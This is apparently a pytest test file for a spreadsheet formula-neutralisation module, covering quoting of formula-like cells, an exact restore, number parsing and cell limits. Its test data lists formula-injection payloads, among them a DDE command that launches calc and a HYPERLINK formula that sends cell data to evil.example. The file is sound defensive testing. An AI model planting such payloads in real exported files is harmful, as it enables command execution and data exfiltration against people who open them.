"""metail2._spreadsheet: formula neutralisation and its exact inverse, cell limits."""
from __future__ import annotations

import pytest

from metail2._spreadsheet import cell_problem, is_plain_number, neutralise, restore

HOSTILE = ["=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3",
           "@SUM(A1:A9)", "\t=1", "\r=1", "\uff1d1+1", "- see table 2"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formulas_get_a_quote(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["-1.5", "+3", "12", "1e-5", "plain", "", "'quoted", "a=b"])
def test_numbers_and_plain_text_are_left_alone(text):
    assert neutralise(text) == text


@pytest.mark.parametrize("text", HOSTILE + ["-1.5", "'=x", "''=x", "'", "'-1.5", "''", "'abc", "x", "", "'+"])
def test_restore_inverts_neutralise_exactly(text):
    assert restore(neutralise(text)) == text


def test_plain_number_grammar_is_ascii_only():
    assert is_plain_number("12") and is_plain_number("-.5e3")
    assert not any(is_plain_number(t) for t in ("１２", "1_2", "inf", "nan", "0x10", " 12", "1,5"))


def test_cell_limits():
    assert cell_problem("tab\tand\nnewline\r\n") is None
    assert "U+0000" in cell_problem("a\x00") and "U+001B" in cell_problem("\x1b[31m")
    assert "U+0085" in cell_problem("a\x85")
    assert cell_problem("x" * 32_767) is None and "32,768 characters" in cell_problem("x" * 32_768)
